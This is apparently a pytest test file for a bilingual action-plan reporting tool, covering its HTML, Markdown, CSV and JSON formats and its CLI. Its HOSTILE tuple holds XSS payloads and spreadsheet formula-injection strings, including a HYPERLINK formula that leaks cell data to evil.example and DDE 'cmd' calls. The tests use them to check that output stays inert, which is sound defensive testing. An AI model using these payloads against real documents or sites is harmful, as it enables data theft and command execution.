"""Reports as plugins: the API, labels and Babel formatting, HTML, Markdown, CSV, JSON and the CLI."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import attrs
import pytest

import actionplan
from actionplan import i18n
from actionplan.errors import ActionplanError, UnknownFormatError
from actionplan.reports import ReportFormat, ReportOption, get_format, render_report, report_formats
from actionplan.reports.labels import LABEL_KEYS, Localizer, label_text

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples"
AS_OF = dt.date(2026, 10, 1)
PLAN = EXAMPLES / "concertation-horizon-2026.yaml"
TRACKING = EXAMPLES / "concertation-horizon-2026-suivi.yaml"

#: Text that must stay inert in every format.
HOSTILE = (
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(2)>',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
)


def seed_plan():
    from actionplan.cli.common import load_plan_with_tracking

    return load_plan_with_tracking(PLAN, [TRACKING])


def hostile_plan():
    """A plan whose every free-text field holds hostile text, with measurements of several kinds."""
    h = HOSTILE
    data = {
        "id": "hostile", "title": f"Plan {h[0]}", "period": {"start": "2026-01-01", "end": "2026-12-31"},
        "mission": h[1], "free_text_schedules": True, "organisation": "org-a",
        "organisations": [{"id": "org-a", "name": h[2], "short_name": h[3]}, {"id": "org-b", "name": h[4]}],
        "themes": [{
            "id": "t1", "title": h[2], "kind": "enjeu_federateur", "heading": h[0], "general_objective": h[3],
            "objectives": [{
                "id": "o1", "title": h[4], "subheading": h[1],
                "actions": [
                    {"id": "a1", "title": h[5], "description": h[6], "schedule": "2026",
                     "partners": [{"organisation": "org-a", "role": "lead"}, {"organisation": "org-b", "role": "responsible"}],
                     "indicators": [
                         {"id": "i1", "label": h[0], "kind": "count", "target": 4, "unit": h[3], "note": h[2]},
                         {"id": "i2", "label": h[2], "kind": "deliverable"},
                         {"id": "i3", "label": h[3], "kind": "qualitative"},
                         {"id": "i4", "label": h[4], "kind": "milestone", "due": "2026-03-31"},
                     ]},
                    {"id": "a2", "title": h[1], "schedule": "=HYPERLINK(\"http://evil.example\")",
                     "indicators": [{"id": "i5", "label": h[6], "kind": "tracked", "unit": h[4]}]},
                ],
            }],
        }],
    }
    plan = actionplan.documents.from_data(data, check=False)
    from actionplan.model import Measurement, with_measurements

    return with_measurements(plan, [
        Measurement(date=dt.date(2026, 3, 1), value=Decimal(2), indicator="i1", note=h[0]),
        Measurement(date=dt.date(2026, 4, 1), done=True, indicator="i2"),
        Measurement(date=dt.date(2026, 5, 1), level="partiel", indicator="i3"),
        Measurement(date=dt.date(2026, 5, 1), value=Decimal(7), indicator="i5"),
    ])


def neutral_plan():
    """A plan whose own words belong to no language: what a report adds are its labels only."""
    data = {
        "id": "neutral", "title": "P-2026", "period": {"start": "2026-01-01", "end": "2026-12-31"},
        "mission": "M-1", "organisations": [{"id": "org-x", "name": "ORG-X"}],
        "territories": ["mrc:roussillon"],
        "themes": [{
            "id": "t1", "title": "T-1", "kind": "autre", "general_objective": "G-1",
            "objectives": [{"id": "o1", "title": "O-1", "subheading": "S-1", "actions": [
                {"id": "a1", "title": "A-1", "schedule": "2026", "partners": [{"organisation": "org-x", "role": "lead"}],
                 "territories": ["mrc:roussillon"],
                 "indicators": [
                     {"id": "i1", "label": "I-1", "kind": "count", "target": 4},
                     {"id": "i2", "label": "I-2", "kind": "rate", "target": 80, "unit": "%"},
                     {"id": "i3", "label": "I-3", "kind": "milestone", "due": "2026-03-31"},
                     {"id": "i4", "label": "I-4", "kind": "deliverable"},
                     {"id": "i5", "label": "I-5", "kind": "coverage", "target_territories": ["mrc:roussillon", "mrc:vaudreuil-soulanges"]},
                     {"id": "i6", "label": "I-6", "kind": "minimum", "target": 1},
                     {"id": "i7", "label": "I-7", "kind": "qualitative"},
                     {"id": "i8", "label": "I-8", "kind": "tracked"},
                 ]},
                {"id": "a2", "title": "A-2", "schedule": "2026-03-31"},
            ]}],
        }],
    }
    plan = actionplan.documents.from_data(data)
    from actionplan.model import Measurement, with_measurements

    return with_measurements(plan, [
        Measurement(date=dt.date(2026, 2, 1), value=Decimal(1), indicator="i1"),
        Measurement(date=dt.date(2026, 2, 1), numerator=Decimal(8), denominator=Decimal(10), indicator="i2"),
        Measurement(date=dt.date(2026, 4, 1), done=False, indicator="i3"),
        Measurement(date=dt.date(2026, 5, 1), territories=("mrc:roussillon",), indicator="i5"),
        Measurement(date=dt.date(2026, 5, 1), level="insuffisant", indicator="i7"),
        Measurement(date=dt.date(2026, 5, 1), value=Decimal(3), indicator="i8"),
    ])


class _Page(HTMLParser):
    """Visible text, the attributes people see or hear, and every tag, of an HTML page."""

    def __init__(self):
        super().__init__()
        self.text: list[str] = []
        self.tags: list[tuple[str, dict]] = []
        self._skip = 0

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.tags.append((tag, attributes))
        if tag in ("style", "script"):
            self._skip += 1
        for name in ("title", "aria-label", "data-template", "alt"):
            if attributes.get(name):
                self.text.append(attributes[name])

    def handle_endtag(self, tag):
        if tag in ("style", "script"):
            self._skip -= 1

    def handle_data(self, data):
        if not self._skip:
            self.text.append(data)


def parse_html(payload: bytes) -> _Page:
    page = _Page()
    page.feed(payload.decode("utf-8"))
    return page


# -- the API ---------------------------------------------------------------------------------


def test_builtin_formats_are_registered_through_the_hook():
    registry = report_formats()
    for name, extension in (("html", ".html"), ("markdown", ".md"), ("csv", ".csv"), ("json", ".json")):
        assert registry[name].extension == extension
        assert registry.owner(name) == "actionplan.reports.builtin"


def test_an_unknown_format_names_the_installed_ones():
    with pytest.raises(UnknownFormatError, match="installed: .*html"):
        get_format("pdf")


def test_a_third_party_format_arrives_through_the_hook(register_plugin):
    class Shout:
        @actionplan.hookimpl
        def actionplan_register_report_formats(self, register):
            register(ReportFormat("shout", ".txt", "the title in capitals",
                                  lambda plan, ctx: f"{plan.title.upper()} {ctx.loc.status('late')}".encode()))

    register_plugin(Shout(), name="shout-plugin")
    assert report_formats().owner("shout") == "shout-plugin"
    assert render_report(neutral_plan(), "shout", as_of=AS_OF, lang="en") == b"P-2026 Late"


def test_a_format_registered_twice_is_refused(register_plugin):
    from actionplan.errors import PluginError

    class Clash:
        @actionplan.hookimpl
        def actionplan_register_report_formats(self, register):
            register(ReportFormat("html", ".htm", "another dashboard", lambda plan, ctx: b""))

    register_plugin(Clash())
    with pytest.raises(PluginError, match="registered twice"):
        report_formats()


def test_options_are_parsed_and_unknown_ones_refused():
    fmt = get_format("csv")
    assert dict(fmt.resolve_options({"bom": "non", "delimiter": "tab"}, "fr")) == {
        "delimiter": "tab", "decimal": ",", "bom": False}
    assert fmt.resolve_options({}, "en")["delimiter"] == ","
    with pytest.raises(ActionplanError, match="has no option 'colour'; its options: delimiter, decimal, bom"):
        fmt.resolve_options({"colour": "red"}, "fr")
    with pytest.raises(ActionplanError, match="expected one of ;, ,, tab, found '|'"):
        fmt.resolve_options({"delimiter": "|"}, "fr")
    with pytest.raises(ActionplanError, match="expected true or false"):
        fmt.resolve_options({"bom": "peut-être"}, "fr")


def test_format_definitions_are_checked():
    with pytest.raises(ValueError, match="extension"):
        ReportFormat("x", "html", "no dot", bytes)
    with pytest.raises(ValueError, match="lowercase name"):
        ReportFormat("Bad Name", ".x", "spaces", bytes)
    with pytest.raises(ValueError, match="lists no choices"):
        ReportOption("mode", "a choice without choices", type="choice")


def test_a_format_must_return_bytes(register_plugin):
    class Text:
        @actionplan.hookimpl
        def actionplan_register_report_formats(self, register):
            register(ReportFormat("text-not-bytes", ".txt", "returns str", lambda plan, ctx: "oops"))

    register_plugin(Text())
    with pytest.raises(ActionplanError, match="returned text, not bytes"):
        render_report(neutral_plan(), "text-not-bytes", as_of=AS_OF)


def test_unknown_language_is_refused():
    with pytest.raises(ActionplanError, match="unknown report language 'de'"):
        render_report(neutral_plan(), "json", as_of=AS_OF, lang="de")


# -- labels and Babel ------------------------------------------------------------------------------


def _labels(lang: str) -> dict[str, str]:
    return {key: label_text(key, lang) for key in LABEL_KEYS}


def test_every_label_exists_in_both_languages_with_the_same_placeholders():
    for key in LABEL_KEYS:
        texts = {lang: i18n.lookup(f"report.label.{key}", lang) for lang in ("fr", "en")}
        assert texts["fr"] and texts["fr"].strip() and texts["en"] and texts["en"].strip(), key
        fields = {lang: set(re.findall(r"{(\w+)}", text)) for lang, text in texts.items()}
        assert fields["fr"] == fields["en"], key


def test_a_label_is_read_from_the_catalogue_of_its_language():
    assert Localizer("fr")("status.late") == "En retard" and Localizer("en")("status.late") == "Late"
    assert Localizer("fr")("report.as_of", date="31 mars 2026") == "Situation au 31 mars 2026"
    with pytest.raises(KeyError):
        Localizer("fr")("status.no_such_status")


def test_french_and_english_numbers_dates_and_money_use_the_exact_characters():
    fr, en = Localizer("fr"), Localizer("en")
    assert fr.money(Decimal(390013)) == "390\xa0013\xa0$"
    assert fr.money(Decimal(195007)) == "195\xa0007\xa0$"
    assert fr.money(Decimal("1234.5")) == "1\xa0234,50\xa0$"
    assert en.money(Decimal(390013)) == "$390,013"
    assert fr.date(dt.date(2026, 3, 31)) == "31 mars 2026"
    assert en.date(dt.date(2026, 3, 31)) == "March 31, 2026"
    assert fr.number(Decimal("1234.5")) == "1\xa0234,5"
    assert en.number(Decimal("1234.5")) == "1,234.5"
    assert fr.percent(Decimal("0.75")) == "75\xa0%"
    assert en.percent(Decimal("0.75")) == "75%"
    assert fr.count(1, "day") == "1 jour" and fr.count(0, "day") == "0 jour" and fr.count(2, "day") == "2 jours"
    assert en.count(1, "day") == "1 day" and en.count(0, "day") == "0 days"
    assert fr.pair("Échéancier", "2026") == "Échéancier\u00a0: 2026" and en.pair("Schedule", "2026") == "Schedule: 2026"
    assert fr.level("satisfaisant") == "satisfaisant" and en.level("satisfaisant") == "satisfactory"
    assert en.level("très bien") == "très bien"  # a plan's own scale is data


def _label_chunks(lang: str) -> set[str]:
    """Literal pieces of every label of ``lang`` that differ from the other language's labels."""
    other = "en" if lang == "fr" else "fr"
    other_text = " ".join(_labels(other).values())
    chunks = set()
    for text in _labels(lang).values():
        for chunk in re.split(r"{\w+}", text):
            chunk = chunk.strip(" :·—-()«»“”.,;")
            if len(re.sub(r"[^A-Za-zÀ-ÿ]", "", chunk)) >= 3 and chunk not in other_text:
                chunks.add(chunk)
    return chunks


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_a_report_never_mixes_languages_in_its_labels(lang):
    other = "en" if lang == "fr" else "fr"
    page = parse_html(render_report(neutral_plan(), "html", as_of=AS_OF, lang=lang))
    visible = "\n".join(page.text)
    foreign = sorted(chunk for chunk in _label_chunks(other) if chunk in visible)
    assert not foreign, f"{lang} dashboard shows {other} labels: {foreign}"
    own = [chunk for chunk in _label_chunks(lang) if chunk in visible]
    assert len(own) > 40  # and it does show its own language's labels
    header = render_report(neutral_plan(), "csv", as_of=AS_OF, lang=lang).decode("utf-8-sig").splitlines()[0]
    assert not [chunk for chunk in _label_chunks(other) if chunk in header]


# -- HTML dashboard ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def seed_html() -> bytes:
    return render_report(seed_plan(), "html", as_of=AS_OF, lang="fr", illustrative=True)


def test_the_dashboard_is_self_contained_and_french_by_default(seed_html):
    page = parse_html(seed_html)
    text = seed_html.decode("utf-8")
    assert text.startswith("<!DOCTYPE html>") and '<html lang="fr-CA">' in text
    for tag, attributes in page.tags:  # nothing is fetched: no external script, style sheet, image or frame
        assert tag not in ("link", "img", "iframe", "object", "embed"), tag
        for name in ("src", "href", "action"):
            value = attributes.get(name) or ""
            assert not re.match(r"^(https?:|//|data:text)", value), (tag, name, value)
    assert "default-src 'none'" in text  # and the page forbids itself any request
    assert [tag for tag, _ in page.tags].count("script") == 1
    visible = "\n".join(page.text)
    for label in ("Vue d'ensemble", "En retard ou à risque", "Échéancier", "Détail par thème", "Situation au 1er octobre 2026",
                  "Données illustratives"):
        assert label in visible


def test_the_script_is_allowed_by_its_hash_only(seed_html):
    import base64
    import hashlib

    text = seed_html.decode("utf-8")
    script = re.search(r"<script>(.*?)</script>", text, flags=re.DOTALL).group(1)
    digest = base64.b64encode(hashlib.sha256(script.encode("utf-8")).digest()).decode()
    assert f"script-src 'sha256-{digest}'" in text


def test_the_dashboard_shows_every_theme_action_indicator_and_the_late_ones(seed_html):
    plan = seed_plan()
    text = seed_html.decode("utf-8")
    page = parse_html(seed_html)
    actions = [attrs for tag, attrs in page.tags if tag == "article" and "data-filter-item" in attrs]
    assert len(actions) == sum(1 for _ in plan.iter_actions())
    for theme in plan.themes:
        assert f'id="theme-{theme.id}"' in text
    statuses = [attrs["data-indicator-status"] for tag, attrs in page.tags
                if tag == "tr" and "data-indicator-status" in attrs and "data-filter-item" not in attrs]
    assert len(statuses) == sum(1 for _ in plan.iter_indicators())
    assert {"achieved", "on_track", "at_risk", "late"} <= set(statuses)
    late_rows = [attrs for tag, attrs in page.tags if tag == "tr" and "data-filter-item" in attrs
                 and attrs.get("data-indicator-status") in ("late", "at_risk")]
    assert len(late_rows) == statuses.count("late") + statuses.count("at_risk")
    visible = "\n".join(page.text)
    assert "Prévu le 31 mars 2026, non réalisé" in visible  # the postponed AGA, said in words
    assert "Échéancier terminé le 20 mars 2026, non réalisé" in visible  # the website of « Hiver 2026 »


def test_every_status_badge_carries_its_word(seed_html):
    text = seed_html.decode("utf-8")
    words = {"achieved": "Atteint", "on_track": "En bonne voie", "at_risk": "À risque", "late": "En retard",
             "not_started": "Non commencé"}
    badges = re.findall(r'<span class="badge st-(\w+)[^"]*"><span class="badge-icon" aria-hidden="true">[^<]*</span>'
                        r'<span class="badge-word">([^<]*)</span></span>', text)
    assert len(badges) > 200
    for status, word in badges:
        assert word == words[status]


def test_tables_have_captions_and_header_scopes(seed_html):
    text = seed_html.decode("utf-8")
    assert text.count("<table") == text.count("<caption")
    assert '<th scope="row"' in text and '<th scope="col"' in text


def test_timeline_bars_come_from_the_schedules():
    from actionplan.progress import plan_progress
    from actionplan.reports.labels import localizer
    from actionplan.reports.timeline import build_timeline
    from actionplan.reports.view import PlanView

    plan = seed_plan()
    view = PlanView(plan, plan_progress(plan, AS_OF), localizer("fr"))
    timeline = build_timeline(view)
    assert timeline.scale == "month" and len(timeline.columns) == 12
    assert timeline.columns[0].label == "janv." and timeline.columns[11].label == "déc."
    assert timeline.today == pytest.approx((273 + 0.5) * 100 / 365)
    rows = {row.action.action.id: row for row in timeline.rows}
    winter = rows["com-o3-a1"]  # « Hiver 2026 »: 21 Dec 2025 → 20 Mar 2026, cut to the plan's period
    span = next(s for s in winter.segments if s.kind == "span")
    assert (span.start, span.end, winter.before) == (dt.date(2026, 1, 1), dt.date(2026, 3, 20), True)
    twice = rows["log-o1-a1"]  # « 2 fois par année et en continu pour ajouts »: two occurrences over a span
    assert [(s.start, s.end) for s in twice.segments if s.kind == "occurrence"] == [
        (dt.date(2026, 1, 1), dt.date(2026, 6, 30)), (dt.date(2026, 7, 1), dt.date(2026, 12, 31))]
    aga = rows["va-o2-a1"]
    assert [s.start for s in aga.segments if s.kind == "marker"] == [dt.date(2026, 3, 31)]
    assert not rows["sa-o2-a2"].dated  # no échéancier in the source: nothing invented
    assert rows["sa-o3-a1"].after  # « 2026-2027 » goes on after the plan's year
    quarters = build_timeline(view, "quarter")
    assert [c.label for c in quarters.columns] == ["T1", "T2", "T3", "T4"]  # the year is a header row above


def test_hostile_text_is_inert_in_html():
    payload = render_report(hostile_plan(), "html", as_of=AS_OF, lang="fr")
    page = parse_html(payload)
    text = payload.decode("utf-8")
    assert [tag for tag, _ in page.tags].count("script") == 1  # ours only
    assert "img" not in [tag for tag, _ in page.tags]
    for _, attributes in page.tags:
        assert not any(name.startswith("on") for name in attributes)
    assert "&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;" in text
    visible = "\n".join(page.text)
    for hostile in HOSTILE[:5]:
        assert hostile in visible  # shown to the reader as the text it is


# -- Markdown ----------------------------------------------------------------------------------------


def test_markdown_report_of_the_seed_plan():
    text = render_report(seed_plan(), "markdown", as_of=AS_OF, lang="fr").decode("utf-8")
    assert text.startswith("# Concertation Horizon — Plan d'action 2026\n")
    assert "*Situation au 1er octobre 2026*" in text
    assert "## En retard ou à risque" in text and "| En retard | 31 mars 2026 | Tenue de l'AGA |" in text
    assert "| 4 rencontres | 4\xa0rencontres | 3\xa0rencontres | 75\xa0% | En bonne voie |" in text
    assert "| **Total** | 105 |" in text


def test_hostile_text_is_inert_in_markdown():
    text = render_report(hostile_plan(), "markdown", as_of=AS_OF).decode("utf-8")
    assert "<script>" not in text and "<img" not in text
    assert "&lt;script&gt;" in text
    for line in text.splitlines():
        if line.startswith("| ") and "HYPERLINK" in line:
            assert line.count(" | ") == line.count("|") - 2 - line.count("\\|")  # pipes in text are escaped


# -- CSV --------------------------------------------------------------------------------------------------


def read_csv(payload: bytes, delimiter: str = ";") -> list[list[str]]:
    assert payload.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(payload.decode("utf-8-sig")), delimiter=delimiter))


def test_csv_has_one_row_per_indicator_with_a_bom_and_french_defaults():
    plan = seed_plan()
    rows = read_csv(render_report(plan, "csv", as_of=AS_OF, lang="fr"))
    header, body = rows[0], rows[1:]
    assert header[:5] == ["Thème", "Objectif spécifique", "Action", "Id indicateur", "Indicateur"]
    assert len(body) == sum(1 for _ in plan.iter_indicators())
    by_id = {row[3]: dict(zip(header, row)) for row in body}
    tp = by_id["va-o1-a1-i1"]
    assert (tp["Cible (nombre)"], tp["Valeur"], tp["Avancement (%)"], tp["Statut"]) == ("4", "3", "75", "En bonne voie")
    assert by_id["va-o1-a1-i2"]["Dernière valeur"] == "74\xa0%"  # 58 of 78 present, a ratio of sums
    assert by_id["va-o2-a1-i1"]["Statut"] == "En retard"
    assert by_id["va-o1-a1-i1"]["Début"] == "2026-01-01" and by_id["va-o1-a1-i1"]["Dernière mesure"] == "2026-09-17"
    assert "," in by_id["sa-o1-a1-i1"]["Attendu à date (%)"]  # a decimal comma in French


def test_csv_in_english_uses_commas_and_points():
    payload = render_report(seed_plan(), "csv", as_of=AS_OF, lang="en", options={"bom": "false"})
    assert not payload.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(payload.decode("utf-8"))))
    assert rows[0][:3] == ["Theme", "Specific objective", "Action"]
    assert "." in dict(zip(rows[0], rows[1]))["Expected to date (%)"]


def test_hostile_text_is_inert_in_csv():
    rows = read_csv(render_report(hostile_plan(), "csv", as_of=AS_OF))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Cliquez ici\")" in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(A1:A9)" in cells and "'\t=1+1" in cells
    assert "'-2+3+cmd|' /C calc'!A0" in cells


# -- JSON ---------------------------------------------------------------------------------------------------


def test_json_holds_the_plain_plan_and_its_progress():
    plan = seed_plan()
    data = json.loads(render_report(plan, "json", as_of=AS_OF, lang="en"))
    assert data["report"]["as_of"] == "2026-10-01" and data["report"]["lang"] == "en"
    again = actionplan.documents.from_data(data["plan"])
    assert again == plan  # the plain model, measurements included
    theme = data["progress"]["themes"][0]
    assert theme["id"] == "securite-alimentaire"
    indicator = theme["objectives"][1]["actions"][1]["indicators"][1]
    assert indicator["id"] == "sa-o2-a2-i2" and indicator["status"] == "on_track" and indicator["status_label"] == "On track"
    assert indicator["value"] == 3 and indicator["target"] == 4 and indicator["fraction"] == "0.75"
    assert sum(data["progress"]["rollup"]["counts"].values()) == sum(1 for _ in plan.iter_indicators())


def test_the_dashboard_written_piece_by_piece_is_the_page_rendered_at_once():
    """render_html streams the template into one buffer and draws the timeline theme by theme: the page is
    Jinja's ``render`` of the same variables, and the rows are those of the whole timeline."""
    from markupsafe import Markup

    from actionplan.reports import build_context
    from actionplan.reports.html import _asset, _environment, _sha256, _variables, render_html
    from actionplan.reports.timeline import build_timeline
    from actionplan.reports.view import PlanView

    for subject in (seed_plan(), hostile_plan()):
        ctx = build_context(subject, as_of=AS_OF, lang="fr", fmt=get_format("html"), options={"pack": "no"})
        script = _asset("dashboard.js")
        whole = _environment().get_template("dashboard.html.j2").render(
            **_variables(subject, ctx), css=Markup(_asset("dashboard.css")), script=Markup(script),
            script_hash=_sha256(script))
        assert render_html(subject, ctx) == whole.encode("utf-8")
        view = PlanView(subject, ctx.progress, ctx.loc)
        drawn = [row for _theme, rows in _variables(subject, ctx)["timeline_groups"] for row in rows]
        assert drawn == list(build_timeline(view).rows) and drawn


def test_json_written_theme_by_theme_is_the_whole_report_written_at_once():
    """render_json writes each theme's data in its place (so a large plan's plain data is never held whole):
    the bytes are exactly those of the whole report data written at once, hostile text included."""
    import orjson

    from actionplan.convert import unstructure
    from actionplan.reports import build_context, get_format
    from actionplan.reports.json_report import JSON_OPTIONS, render_json, report_data

    plan = seed_plan()
    one_theme = attrs.evolve(plan, themes=plan.themes[:1])
    for subject in (plan, hostile_plan(), one_theme):
        for lang in ("fr", "en"):
            ctx = build_context(subject, as_of=AS_OF, lang=lang, fmt=get_format("json"))
            whole = orjson.dumps(unstructure(report_data(subject, ctx)), option=JSON_OPTIONS)
            assert render_json(subject, ctx) == whole, (subject.id, lang)
    data = json.loads(render_json(plan, build_context(plan, as_of=AS_OF, fmt=get_format("json"))))
    assert [t["id"] for t in data["plan"]["themes"]] == [t["id"] for t in data["progress"]["themes"]] \
        == [t.id for t in plan.themes]


# -- the seed's tracking data ----------------------------------------------------------------------------------


def test_illustrative_tracking_shows_every_status_possible_at_that_date():
    from actionplan.model import TrackingLog
    from actionplan.progress import plan_progress

    log = actionplan.load(TRACKING, TrackingLog)
    assert log.illustrative and log.plan == "concertation-horizon-2026"
    assert "ILLUSTRATIVE" in TRACKING.read_text(encoding="utf-8").split("\n", 3)[2]
    assert all(dt.date(2026, 1, 1) <= m.date <= dt.date(2026, 9, 30) for m in log.measurements)
    plan = seed_plan()
    progress = plan_progress(plan, AS_OF)
    measured = {m.indicator for m in log.measurements}
    indicators = list(plan.iter_indicators())
    assert len(measured) >= 0.75 * len(indicators)
    assert {i.kind for *_, i in indicators if i.id in measured} == {i.kind for *_, i in indicators}
    counts = progress.rollup.counts
    assert counts["achieved"] and counts["on_track"] and counts["at_risk"] and counts["late"] >= 2
    assert plan_progress(plan, dt.date(2025, 12, 1)).rollup.counts["not_started"] > 0


# -- the command line -------------------------------------------------------------------------------------------


def cli(*args: str):
    from click.testing import CliRunner

    from actionplan.cli import make_cli

    return CliRunner().invoke(make_cli(), list(args), catch_exceptions=False)


def test_cli_report_writes_the_dashboard(tmp_path):
    out = tmp_path / "rapport.html"
    result = cli("report", str(PLAN), "--format", "html", "-o", str(out), "--as-of", "2026-10-01",
                 "--tracking", str(TRACKING))
    assert result.exit_code == 0, result.output
    assert f"{out} : rapport html écrit" in result.output
    html = out.read_text(encoding="utf-8")
    assert "Situation au 1er octobre 2026" in html and "Données illustratives" in html  # the log says illustrative
    assert not list(tmp_path.glob(".*.tmp"))  # written atomically


def test_cli_report_language_options_and_default_name(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = cli("--lang", "en", "report", str(PLAN), "-f", "csv", "--lang", "en", "--as-of", "2026-10-01",
                 "-O", "delimiter=tab", "-O", "bom=no")
    assert result.exit_code == 0, result.output
    written = tmp_path / "concertation-horizon-2026.csv"
    assert "concertation-horizon-2026.csv: csv report written" in result.output
    assert written.read_text(encoding="utf-8").split("\n")[0].startswith("Theme\tSpecific objective\t")


def test_cli_report_to_standard_output():
    result = cli("report", str(PLAN), "-f", "markdown", "-o", "-", "--as-of", "2026-10-01")
    assert result.exit_code == 0
    assert result.output.startswith("# Concertation Horizon")


@pytest.mark.parametrize(("args", "message"), [
    (("-f", "pdf"), "aucun format de rapport nommé 'pdf'\u00a0; installés : "),
    (("-f", "csv", "-O", "colour=red"), "le format 'csv' n'a pas d'option 'colour'"),
    (("-f", "csv", "-O", "colour"), "option de format 'colour' : attendu NOM=VALEUR"),
    (("-f", "html", "-o", "/no/such/folder/r.html"),
     "/no/such/folder/r.html : écriture impossible (le dossier /no/such/folder n'existe pas)"),
    (("-f", "html", "--as-of", "1er octobre"), "attendu une date AAAA-MM-JJ, trouvé '1er octobre'"),
])
def test_cli_report_errors_are_clean(args, message, tmp_path, capsys):
    from actionplan.cli import main

    with pytest.raises(SystemExit) as exit_info:
        main(["report", str(PLAN), *args])
    captured = capsys.readouterr()
    assert exit_info.value.code == 2
    assert message in captured.err
    assert "Traceback" not in captured.err


def test_cli_formats_lists_name_extension_description_and_plugin():
    result = cli("formats")
    assert result.exit_code == 0
    for name in ("html", "markdown", "csv", "json"):
        assert re.search(rf"│ {name}\s+│ \.\w+\s+│", result.output), name
    assert "actionplan.reports.builtin" in result.output
    assert "timeline=auto" in result.output


def test_cli_report_of_a_plan_kept_in_a_store(tmp_path):
    from actionplan.model import TrackingLog
    from actionplan.storage import open_store

    url = f"sqlite:{tmp_path / 'plans.db'}"
    with open_store(url) as store:
        store.save(actionplan.load(PLAN))
        store.append_measurements("concertation-horizon-2026", actionplan.load(TRACKING, TrackingLog).measurements)
    out = tmp_path / "depuis-le-depot.md"
    result = cli("--store", url, "report", "concertation-horizon-2026", "-f", "markdown", "-o", str(out),
                 "--as-of", "2026-10-01")
    assert result.exit_code == 0, result.output
    assert "| 4 rencontres | 4\xa0rencontres | 3\xa0rencontres | 75\xa0% | En bonne voie |" in out.read_text("utf-8")
